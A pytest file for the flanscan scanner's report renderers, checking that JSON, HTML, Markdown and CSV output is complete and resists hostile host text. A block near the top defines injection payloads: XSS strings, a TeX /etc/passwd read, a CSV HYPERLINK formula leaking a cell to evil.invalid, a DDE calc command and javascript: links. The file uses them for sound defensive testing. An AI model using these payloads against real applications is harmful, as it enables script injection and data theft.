"""Renderer tests on hand-built reports with realistic data and hostile host text.

Every format is parsed back (json, html.parser, csv) and checked for what a reader must see and
for what a hostile host must not be able to do. TeX/PDF compilation lives in
test_render_documents.py.
"""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime
from html.parser import HTMLParser
from importlib import resources

import jsonschema
import pytest

from flanscan._errors import UsageError
from flanscan._model import (
    ChangeItem,
    ChangeKind,
    ChangeSummary,
    Confidence,
    CvssScore,
    DistributionEvidence,
    Finding,
    FindingStatus,
    HostSummary,
    KevEntry,
    Location,
    MatchEvidence,
    Report,
    ScanSummary,
    ServiceFinding,
    ServiceReport,
    Severity,
    SuppressionRef,
    VulnDbSummary,
    Vulnerability,
)
from flanscan._render import FORMATS, render
from flanscan._render._csv import FORMULA_PREFIXES
from flanscan._render._md import code_md, escape_md

# --------------------------------------------------------------------------- hostile text

XSS = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(2)>'
STYLE_BREAK = "</style><script>alert(3)</script>"
TEX = r"\input{/etc/passwd} $x^2$ & 100% #1 _a_ ~b~ {c} \\ \end{document}"
FORMULA = '=HYPERLINK("http://evil.invalid/?leak="&A1,"click")'
MD_LINK = "](javascript:alert(1)) [x](javascript:alert(4)) | cell | `code` *em* <b>b</b>"
UNICODE = "Ünïcødé 日本語 🚀 Ελληνικά \u202eevil\u202c ÿ"
LONG = "A" * 3000 + " " + "word " * 400
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
CONTROL = "nul\x00bell\x07esc\x1b[31mred"


def hostile_text() -> list[str]:
    return [XSS, IMG, STYLE_BREAK, TEX, FORMULA, MD_LINK, UNICODE, DDE, CONTROL]


# --------------------------------------------------------------------------- sample report


def vuln(
    cve: str,
    score: float | None,
    version: str = "3.1",
    *,
    summary: str = "",
    kev: KevEntry | None = None,
    epss: float | None = None,
    pct: float | None = None,
    cwes: tuple[str, ...] = (),
    published: str = "2023-07-20T03:15:10.170",
) -> Vulnerability:
    return Vulnerability(
        id=cve,
        summary=summary,
        published=published,
        cvss=CvssScore(score, version, "CVSS:3.1/AV:N/AC:L", "nvd@nist.gov")
        if score is not None
        else None,
        cwes=cwes,
        kev=kev,
        epss=epss,
        epss_percentile=pct,
    )


SSH_A = Location("198.18.0.10", 22, "tcp", ("ssh-a.lab",))
SSH_B = Location("198.18.0.11", 22, "tcp", ())
SSH_6 = Location("fd00:f1a5::11", 2222, "tcp", ("ssh6.lab",))
WEB = Location("198.18.0.20", 80, "tcp", ("www.lab",))
EVIL = Location("198.18.0.66", 8080, "tcp", (FORMULA, XSS, MD_LINK))
NGINX = Location("198.18.0.30", 443, "tcp", ())
REDIS = Location("198.18.0.40", 6379, "tcp", (DDE,))
UNKNOWN = Location("198.18.0.40", 9999, "udp", ())

SSH_BANNER = "OpenSSH 9.2p1 Debian 2+deb12u3 (protocol 2.0)"


def ssh_evidence(rng: str = "< 9.3p2") -> tuple[MatchEvidence, ...]:
    return (
        MatchEvidence(
            criteria="cpe:2.3:a:openbsd:openssh:*:*:*:*:*:*:*:*",
            version_range=rng,
            detected_version="9.2p1",
            detected_cpe="cpe:/a:openbsd:openssh:9.2p1",
            banner=SSH_BANNER,
        ),
    )


def sample_report(*, with_db: bool = True, with_changes: bool = True) -> Report:
    """A realistic report: OpenSSH on three hosts (every status), Apache in KEV, a hostile
    service, nginx with product-only matches, Redis and an unknown port with nothing."""
    ssh_findings = (
        ServiceFinding(
            Finding(
                vuln(
                    "CVE-2023-38408",
                    9.8,
                    summary="The PKCS#11 feature in ssh-agent in OpenSSH before 9.3p2 has an "
                    "insufficiently trustworthy search path, leading to remote code execution.",
                    epss=0.6512,
                    pct=0.9841,
                    cwes=("CWE-428",),
                ),
                evidence=ssh_evidence(),
            ),
            (SSH_A, SSH_B, SSH_6),
        ),
        ServiceFinding(
            Finding(
                vuln("CVE-2023-51385", 6.5, summary="OS command injection via user names."),
                status=FindingStatus.UNCONFIRMED_DISTRIBUTION,
                evidence=ssh_evidence("< 9.6"),
                distribution=DistributionEvidence(
                    "debian", note="banner carries no Debian revision for this port"
                ),
            ),
            (SSH_6,),
        ),
        ServiceFinding(
            Finding(
                vuln("CVE-2023-48795", 5.9, summary="Terrapin: SSH prefix truncation attack."),
                status=FindingStatus.FIXED_BY_DISTRIBUTION,
                evidence=ssh_evidence("< 9.6"),
                distribution=DistributionEvidence(
                    distribution="debian",
                    release="bookworm",
                    source_package="openssh",
                    package_version="1:9.2p1-2+deb12u3",
                    tracker="Debian security tracker",
                    tracker_status="resolved",
                    fixed_version="1:9.2p1-2+deb12u2",
                ),
            ),
            (SSH_A, SSH_B),
        ),
        ServiceFinding(
            Finding(
                vuln("CVE-2016-20012", 5.3, "3.0", summary="User enumeration (disputed)."),
                status=FindingStatus.SUPPRESSED,
                evidence=ssh_evidence("<= 8.7"),
                suppression=SuppressionRef(
                    "suppressions.yml:12", "disputed by the vendor", "secops@lab", "2027-01-01"
                ),
            ),
            (SSH_A, SSH_B, SSH_6),
        ),
        ServiceFinding(
            Finding(
                vuln("CVE-2008-3844", None, summary="Awaiting analysis."),
                evidence=ssh_evidence("= 9.2p1"),
            ),
            (SSH_A, SSH_B, SSH_6),
        ),
    )
    apache_kev = KevEntry("2021-11-03", True, "2021-11-17", "Apache HTTP Server Path Traversal")
    services = (
        ServiceReport(
            name="ssh",
            product="OpenSSH",
            version="9.2p1",
            cpes=("cpe:/a:openbsd:openssh:9.2p1", "cpe:/o:linux:linux_kernel"),
            locations=(SSH_A, SSH_B, SSH_6),
            findings=ssh_findings,
            extrainfo="Debian 2+deb12u3; protocol 2.0",
        ),
        ServiceReport(
            name="http",
            product="Apache httpd",
            version="2.4.49",
            cpes=("cpe:/a:apache:http_server:2.4.49",),
            locations=(WEB,),
            findings=(
                ServiceFinding(
                    Finding(
                        vuln(
                            "CVE-2021-41773",
                            7.5,
                            summary="Path traversal and RCE in Apache HTTP Server 2.4.49.",
                            kev=apache_kev,
                            epss=0.9444,
                            pct=0.9993,
                            cwes=("CWE-22",),
                            published="2021-10-05T09:15:07.593",
                        ),
                        evidence=(
                            MatchEvidence(
                                "cpe:2.3:a:apache:http_server:2.4.49:*:*:*:*:*:*:*",
                                "= 2.4.49",
                                "2.4.49",
                                "cpe:/a:apache:http_server:2.4.49",
                                "Apache httpd 2.4.49 ((Unix))",
                                ("running on cpe:2.3:o:linux:linux_kernel:*",),
                            ),
                        ),
                    ),
                    (WEB,),
                ),
            ),
            extrainfo="(Unix)",
        ),
        ServiceReport(
            name="http-proxy",
            product=XSS + " " + MD_LINK,
            version=TEX,
            cpes=(f"cpe:/a:{FORMULA}",),
            locations=(EVIL,),
            findings=(
                ServiceFinding(
                    Finding(
                        vuln(
                            "CVE-2099-0001",
                            4.3,
                            "2.0",
                            summary=" ".join([*hostile_text(), LONG]),
                            cwes=(STYLE_BREAK,),
                        ),
                        evidence=(
                            MatchEvidence(
                                criteria=IMG,
                                version_range=TEX,
                                banner=FORMULA + " " + UNICODE,
                                alias=MD_LINK,
                            ),
                        ),
                    ),
                    (EVIL,),
                ),
            ),
            extrainfo=IMG + " " + UNICODE,
        ),
        ServiceReport(
            name="https",
            product="nginx",
            version=None,
            cpes=("cpe:/a:igor_sysoev:nginx",),
            locations=(NGINX,),
            product_only=(
                ServiceFinding(
                    Finding(
                        vuln("CVE-2021-23017", 7.7, summary="1-byte memory overwrite in resolver."),
                        confidence=Confidence.PRODUCT_ONLY,
                    ),
                    (NGINX,),
                ),
            ),
        ),
        ServiceReport(
            name="redis",
            product="Redis key-value store",
            version="7.0.15",
            cpes=(),
            locations=(REDIS,),
        ),
        ServiceReport(name="unknown", product=None, version=None, cpes=(), locations=(UNKNOWN,)),
    )
    changes = ChangeSummary(
        since_run="run-2026-11-01",
        since=datetime(2026, 11, 1, 10, 0, tzinfo=UTC),
        items=(
            ChangeItem(
                ChangeKind.NEW_FINDING,
                "CVE-2021-41773 now affects Apache httpd 2.4.49",
                location=WEB,
                vuln_id="CVE-2021-41773",
                severity=Severity.HIGH,
            ),
            ChangeItem(
                ChangeKind.VERSION_CHANGED,
                f"version changed on {EVIL.label}: {XSS}",
                location=EVIL,
                old="2.4.48",
                new=TEX,
            ),
            ChangeItem(ChangeKind.HOST_DISAPPEARED, "host gone", address="198.18.0.99"),
        ),
    )
    return Report(
        scan=ScanSummary(
            targets=("198.18.0.0/24", "fd00:f1a5::/64"),
            excluded=("198.18.0.1",),
            nmap_commands=(
                "nmap -sS -sV --top-ports 1000 -oX xml/worker-0.xml 198.18.0.0/25",
                "nmap -sS -sV --top-ports 1000 -oX xml/worker-1.xml 198.18.0.128/25",
            ),
            nmap_version="7.93",
            start=datetime(2026, 11, 22, 10, 0, 0, tzinfo=UTC),
            end=datetime(2026, 11, 22, 10, 4, 31, tzinfo=UTC),
            profile="default",
            ports="top-1000",
            warnings=("xml/worker-1.xml was cut short: " + XSS,),
            hosts_up=6,
            hosts_down=250,
        ),
        services=services,
        hosts=(
            HostSummary("198.18.0.10", ("ssh-a.lab",), "up", 1),
            HostSummary("198.18.0.11", (), "up", 1),
            HostSummary("198.18.0.20", ("www.lab",), "up", 1),
            HostSummary("198.18.0.30", (), "up", 1),
            HostSummary("198.18.0.40", (), "up", 2),
            HostSummary("198.18.0.66", (FORMULA, XSS, MD_LINK), "up", 1),
            HostSummary("fd00:f1a5::11", ("ssh6.lab",), "up", 1),
        ),
        vulndb=VulnDbSummary(
            "/root/.cache/flanscan/vulndb.sqlite",
            1234,
            (
                ("NVD CVE 2.0", "2026-11-21"),
                ("CISA KEV", "2026-11-20"),
                ("FIRST EPSS", "2026-11-21"),
            ),
            "2026-11-21T06:00:00Z",
        )
        if with_db
        else None,
        vulndb_note=None
        if with_db
        else "No vulnerability database was available: run `flan db update` to get one.",
        notes=("suppression rule suppressions.yml:20 matched nothing (unused)", XSS),
        changes=changes if with_changes else None,
    )


def empty_report() -> Report:
    """A scan that found nothing, with no vulnerability database."""
    return Report(
        scan=ScanSummary(targets=("127.0.0.1",), nmap_commands=("nmap -sV 127.0.0.1",)),
        services=(),
        vulndb_note="No vulnerability database was available: run `flan db update`.",
    )


def all_reports() -> list[Report]:
    return [sample_report(), sample_report(with_db=False, with_changes=False), empty_report()]


# --------------------------------------------------------------------------- helpers


class ParsedHtml(HTMLParser):
    """The parts of an HTML document a safety test looks at, from the stdlib parser."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.scripts: list[str] = []
        self.styles: list[str] = []
        self.sections: dict[str, list[str]] = {}
        self._stack: list[str] = []
        self._section: str | None = None
        self._raw: str | None = None
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))
        if tag == "section":
            self._section = dict(attrs).get("id") or "?"
            self.sections.setdefault(self._section, [])
        if tag in ("script", "style"):
            self._raw = tag
            (self.scripts if tag == "script" else self.styles).append("")

    def handle_endtag(self, tag: str) -> None:
        if tag in ("script", "style"):
            self._raw = None

    def handle_data(self, data: str) -> None:
        if self._raw == "script":
            self.scripts[-1] += data
        elif self._raw == "style":
            self.styles[-1] += data
        elif self._section is not None:
            self.sections[self._section].append(data)

    def text(self, section: str) -> str:
        return " ".join(" ".join(self.sections.get(section, [])).split())

    def all_text(self) -> str:
        return " ".join(" ".join(" ".join(v) for v in self.sections.values()).split())


def schema() -> dict[str, object]:
    text = resources.files("flanscan").joinpath("schemas", "report.schema.json").read_text()
    data = json.loads(text)
    assert isinstance(data, dict)
    return data


def validate(doc: object) -> None:
    validator = jsonschema.Draft202012Validator(
        schema(), format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER
    )
    validator.validate(doc)


def open_findings(report: Report) -> list[tuple[ServiceReport, ServiceFinding]]:
    return [(svc, sf) for svc in report.services for sf in svc.open_findings]


# --------------------------------------------------------------------------- dispatch


def test_formats_and_unknown_format() -> None:
    assert FORMATS == ("json", "html", "md", "csv", "tex", "pdf", "sarif", "cyclonedx")
    with pytest.raises(UsageError, match="unknown report format 'docx'"):
        render(sample_report(), "docx")


@pytest.mark.parametrize("fmt", [f for f in FORMATS if f != "pdf"])
def test_every_format_is_deterministic_utf8(fmt: str) -> None:
    first = render(sample_report(), fmt)
    assert first == render(sample_report(), fmt)
    first.decode("utf-8")
    for report in all_reports()[1:]:
        assert render(report, fmt)


# --------------------------------------------------------------------------- json


def test_json_validates_and_carries_the_model() -> None:
    report = sample_report()
    doc = json.loads(render(report, "json"))
    validate(doc)
    for other in all_reports()[1:]:
        validate(json.loads(render(other, "json")))

    assert doc["scan"]["targets"] == list(report.scan.targets)
    assert doc["scan"]["nmap_commands"] == list(report.scan.nmap_commands)
    assert doc["scan"]["start"] == "2026-11-22T10:00:00+00:00"
    summary = report.summary()
    assert {k: doc["summary"][k] for k in summary} == summary
    assert [s["product"] for s in doc["services"]] == [s.product for s in report.services]

    ssh = doc["services"][0]
    assert ssh["cpe"] == list(report.services[0].cpes)
    assert ssh["locations"][2] == {
        "address": "fd00:f1a5::11",
        "hostnames": ["ssh6.lab"],
        "port": 2222,
        "protocol": "tcp",
    }
    statuses = {v["id"]: v["status"] for v in ssh["vulnerabilities"]}
    assert statuses == {
        sf.finding.id: sf.finding.status.value for sf in report.services[0].findings
    }
    fixed = next(v for v in ssh["vulnerabilities"] if v["id"] == "CVE-2023-48795")
    assert fixed["distribution"]["fixed_version"] == "1:9.2p1-2+deb12u2"
    assert [loc["address"] for loc in fixed["locations"]] == ["198.18.0.10", "198.18.0.11"]
    suppressed = next(v for v in ssh["vulnerabilities"] if v["id"] == "CVE-2016-20012")
    assert suppressed["suppression"]["owner"] == "secops@lab"
    unscored = next(v for v in ssh["vulnerabilities"] if v["id"] == "CVE-2008-3844")
    assert (unscored["cvss"], unscored["severity"], unscored["cvss_version"]) == (
        None,
        "unknown",
        None,
    )

    apache = doc["services"][1]["vulnerabilities"][0]
    src = report.services[1].findings[0].finding.vulnerability
    assert apache["id"] == src.id
    assert (apache["cvss"], apache["cvss_version"], apache["severity"]) == (7.5, "3.1", "high")
    assert apache["kev"]["date_added"] == "2021-11-03"
    assert apache["kev"]["known_ransomware_use"] is True
    assert (apache["epss"], apache["epss_percentile"]) == (src.epss, src.epss_percentile)
    assert apache["url"] == "https://nvd.nist.gov/vuln/detail/CVE-2021-41773"
    assert apache["cwe"] == ["CWE-22"]
    assert apache["evidence"][0]["platform_conditions"] == [
        "running on cpe:2.3:o:linux:linux_kernel:*"
    ]

    hostile = doc["services"][2]
    assert hostile["product"] == XSS + " " + MD_LINK  # JSON keeps host text verbatim
    assert hostile["version"] == TEX
    assert "\x00" not in render(report, "json").decode()  # control characters dropped
    assert doc["services"][3]["product_only"][0]["match"] == "product-only"
    assert doc["changes"]["items"][0]["kind"] == "new-finding"
    assert doc["vulnerability_database"]["cve_count"] == 1234
    nodb = json.loads(render(all_reports()[1], "json"))
    assert nodb["vulnerability_database"] == {
        "available": False,
        "note": "No vulnerability database was available: run `flan db update` to get one.",
    }
    assert nodb["changes"] is None


def test_json_schema_rejects_what_it_should() -> None:
    doc = json.loads(render(sample_report(), "json"))
    doc["services"][0]["vulnerabilities"][0]["severity"] = "severe"
    with pytest.raises(jsonschema.ValidationError):
        validate(doc)
    doc = json.loads(render(sample_report(), "json"))
    del doc["services"][0]["locations"][0]["port"]
    with pytest.raises(jsonschema.ValidationError):
        validate(doc)


# --------------------------------------------------------------------------- html


def test_html_is_self_contained_and_injection_free() -> None:
    report = sample_report()
    text = render(report, "html").decode()
    doc = ParsedHtml(text)
    static_js = resources.files("flanscan").joinpath("templates", "report.js").read_text()
    assert doc.scripts == [static_js]  # exactly our script, nothing from the data
    assert len(doc.styles) == 1
    tags = {tag for tag, _ in doc.tags}
    assert not tags & {"img", "iframe", "object", "embed", "link", "b_", "base", "form"}
    for tag, attrs in doc.tags:
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name)
            assert name not in ("src", "srcset", "xlink:href", "action"), (tag, name)
            if name == "href":
                assert value is not None and value.startswith("https://nvd.nist.gov/vuln/detail/")
    csp = next(
        dict(a)["content"]
        for t, a in doc.tags
        if t == "meta" and ("http-equiv", "Content-Security-Policy") in a
    )
    assert csp is not None and "default-src 'none'" in csp
    # Hostile text is shown as text, whole.
    everything = doc.all_text()
    for piece in (XSS, IMG.strip(), STYLE_BREAK, TEX, FORMULA, "](javascript:alert(1))"):
        assert piece in everything, piece
    assert "nulbellesc[31mred" in everything  # controls dropped, the rest kept
    assert "\u202e" not in text


def test_html_shows_every_finding_field_in_order() -> None:
    report = sample_report()
    doc = ParsedHtml(render(report, "html").decode())
    assert list(doc.sections) == [
        "changes",
        "summary",
        "vulnerable",
        "other-services",
        "scan",
        "vulnerability-data",
        "appendix-distribution",
        "appendix-suppressed",
    ]
    assert doc.text("changes").startswith("Changes since 2026-11-01 10:00:00 UTC")
    vulnerable = doc.text("vulnerable")
    for _svc, sf in open_findings(report):
        v = sf.finding.vulnerability
        assert v.id in vulnerable
        assert sf.finding.status.label in vulnerable
        if v.cvss:
            assert f"{v.cvss.score:.1f} v{v.cvss.version}" in vulnerable
        if v.summary:
            assert " ".join(v.summary.split())[:60] in vulnerable
        for cwe in v.cwes:
            assert cwe in vulnerable
    assert "KEV 2021-11-03 ransomware: known" in vulnerable
    assert "94.44% pctl 99.9" in vulnerable
    assert "2021-10-05" in vulnerable
    assert "unconfirmed: distribution build" in vulnerable
    # Unconfirmed findings are shown after the confirmed ones, under their own note.
    note = vulnerable.index("Unconfirmed: distribution build.")
    assert vulnerable.index("CVE-2023-38408") < note < vulnerable.index("CVE-2023-51385")
    # Closed findings are only in their appendix, with their evidence.
    assert "CVE-2023-48795" not in vulnerable and "CVE-2016-20012" not in vulnerable
    appendix_a = doc.text("appendix-distribution")
    assert "CVE-2023-48795" in appendix_a and "fixed in 1:9.2p1-2+deb12u2" in appendix_a
    appendix_b = doc.text("appendix-suppressed")
    assert "CVE-2016-20012" in appendix_b and "disputed by the vendor" in appendix_b
    assert "secops@lab" in appendix_b
    # Vulnerable services first, in the report's order; then the others; then scan facts.
    assert vulnerable.index("OpenSSH 9.2p1") < vulnerable.index("Apache httpd 2.4.49")
    others = doc.text("other-services")
    assert "Redis key-value store 7.0.15" in others and "version unknown: 1 CVE exist" in others
    scan = doc.text("scan")
    for cmd in report.scan.nmap_commands:
        assert cmd in scan
    assert "2026-11-22 10:04:31 UTC" in scan and "fd00:f1a5::/64" in scan
    assert "NVD CVE 2.0, data of 2026-11-21" in doc.text("vulnerability-data")
    assert "<svg" in render(report, "html").decode()


def test_html_without_database_says_so() -> None:
    doc = ParsedHtml(render(all_reports()[1], "html").decode())
    assert "changes" not in doc.sections
    assert "No vulnerability database was available" in doc.text("vulnerability-data")


# --------------------------------------------------------------------------- markdown


def md_to_html(text: str) -> str:
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark", {"html": True}).enable("table").render(text)


@pytest.mark.parametrize("text", hostile_text())
def test_md_escape_keeps_hostile_text_literal(text: str) -> None:
    html = md_to_html(
        f"| a | b |\n| --- | --- |\n| {escape_md(text)} | x |\n\nsee {escape_md(text)}\n"
    )
    doc = ParsedHtml(f"<section id='s'>{html}</section>")
    assert not doc.scripts
    assert all(tag not in ("img", "a", "code", "em", "b", "strong") for tag, _ in doc.tags)
    cells = [t for t, _ in doc.tags if t == "td"]
    assert len(cells) == 2  # a | in the text did not add a column
    expected = " ".join(clean_for_compare(text).split())
    assert doc.text("s").count(expected) == 2


@pytest.mark.parametrize("text", hostile_text())
def test_md_code_span_keeps_hostile_text_literal(text: str) -> None:
    html = md_to_html(f"| a | b |\n| --- | --- |\n| {code_md(text)} | x |\n\nsee {code_md(text)}\n")
    doc = ParsedHtml(f"<section id='s'>{html}</section>")
    assert not doc.scripts
    assert all(tag not in ("img", "a", "em", "b", "strong") for tag, _ in doc.tags)
    assert len([t for t, _ in doc.tags if t == "td"]) == 2  # a | did not add a column
    expected = " ".join(clean_for_compare(text).split())
    if expected:
        assert [t for t, _ in doc.tags].count("code") == 2
        # Outside a table a code span keeps the text as it is (a | only escaped in cells).
        assert expected.replace("|", "\\|") in doc.text("s") or expected in doc.text("s")


def test_md_is_readable_as_plain_text() -> None:
    text = render(sample_report(), "md").decode()
    # Versions, CPEs and locations are code spans, not strings of backslashes.
    assert "`cpe:/a:openbsd:openssh:9.2p1`" in text
    assert "`198.18.0.11:22/tcp`" in text  # a location
    for line in text.splitlines():
        if "alert" not in line and "passwd" not in line:  # the hostile samples keep theirs
            assert not re.search(r"\\[().#+!{}^-]", line), line


def clean_for_compare(text: str) -> str:
    from flanscan._render._common import one_line

    return one_line(text)


def test_md_report_renders_safely_and_completely() -> None:
    report = sample_report()
    html = md_to_html(render(report, "md").decode())
    doc = ParsedHtml(f"<section id='all'>{html}</section>")
    assert not doc.scripts
    hrefs = [dict(a).get("href") for t, a in doc.tags if t == "a"]
    assert hrefs and all(h and h.startswith("https://nvd.nist.gov/vuln/detail/CVE-") for h in hrefs)
    assert not any(t == "img" for t, _ in doc.tags)
    text = doc.text("all")
    assert text.index("Changes since 2026-11-01") < text.index("Vulnerable services")
    for piece in (XSS, TEX, FORMULA, "](javascript:alert(1))", "9.8 (CVSS 3.1)", "CWE-428"):
        assert piece in text, piece
    assert "KEV since 2021-11-03, ransomware: known" in text
    assert "1:9.2p1-2+deb12u2" in text and "disputed by the vendor" in text
    note = text.index("Unconfirmed: distribution build.")
    assert text.index("CVE-2023-38408") < note < text.index("CVE-2023-51385")
    # Every table row has as many cells as its header.
    for table in html.split("<table>")[1:]:
        body = table.split("</table>")[0]
        widths = {row.count("<td") + row.count("<th") for row in body.split("<tr>")[1:]}
        assert len(widths) == 1, widths


# --------------------------------------------------------------------------- csv


def test_csv_rows_per_finding_and_location_without_formulas() -> None:
    from flanscan._render._csv import COLUMNS

    report = sample_report()
    rows = list(csv.reader(io.StringIO(render(report, "csv").decode(), newline="")))
    assert rows[0] == list(COLUMNS)
    body = rows[1:]
    assert all(len(r) == len(COLUMNS) for r in body)
    for row in body:
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES), cell
    col = {name: i for i, name in enumerate(COLUMNS)}
    pairs = {(r[col["vulnerability"]], r[col["address"]], r[col["port"]]) for r in body}
    expected = 0
    for svc in report.services:
        covered = set()
        for sf in svc.findings:
            for loc in sf.locations:
                covered.add(loc)
                expected += 1
                assert (sf.finding.id, loc.address, str(loc.port)) in pairs
        expected += len(set(svc.locations) - covered)
    assert len(body) == expected
    # Services without findings still list their ports, with empty vulnerability columns.
    redis = [r for r in body if r[col["port"]] == "6379"]
    assert len(redis) == 1 and redis[0][col["vulnerability"]] == ""
    assert redis[0][col["hostnames"]] == "'" + DDE
    evil = next(r for r in body if r[col["port"]] == "8080")
    assert evil[col["hostnames"]].startswith("'=HYPERLINK(")
    apache = next(r for r in body if r[col["vulnerability"]] == "CVE-2021-41773")
    assert apache[col["cvss"]] == "7.5" and apache[col["cvss_version"]] == "3.1"
    assert apache[col["kev_date_added"]] == "2021-11-03"
    assert apache[col["kev_known_ransomware_use"]] == "known"
    assert apache[col["epss"]] == "0.94440" and apache[col["epss_percentile"]] == "0.99930"
    assert apache[col["url"]] == "https://nvd.nist.gov/vuln/detail/CVE-2021-41773"
    statuses = {r[col["vulnerability"]]: r[col["status"]] for r in body}
    assert statuses["CVE-2023-48795"] == "fixed-by-distribution"
    assert statuses["CVE-2016-20012"] == "suppressed"


def test_product_only_matches_counted_or_listed_on_request() -> None:
    from dataclasses import replace

    from flanscan._render._csv import COLUMNS

    report = sample_report()
    cve = report.services[3].product_only[0].finding.id
    listed = replace(report, list_product_only=True)
    # Counted by default: HTML keeps the list closed, Markdown and CSV only count them.
    html = render(report, "html").decode()
    assert "version unknown: 1 CVE exist for this product" in ParsedHtml(html).text(
        "other-services"
    )
    assert "<details><summary>nginx: version unknown" in html
    assert cve not in render(report, "md").decode()
    assert cve not in render(report, "csv").decode()
    # Listed on request.
    assert "<details open><summary>nginx: version unknown" in render(listed, "html").decode()
    assert cve in render(listed, "md").decode()
    rows = list(csv.reader(io.StringIO(render(listed, "csv").decode(), newline="")))
    row = next(r for r in rows if r[COLUMNS.index("vulnerability")] == cve)
    assert row[COLUMNS.index("match")] == "product-only"
    assert row[COLUMNS.index("port")] == "443"
    assert cve in render(listed, "json").decode() and cve in render(report, "json").decode()
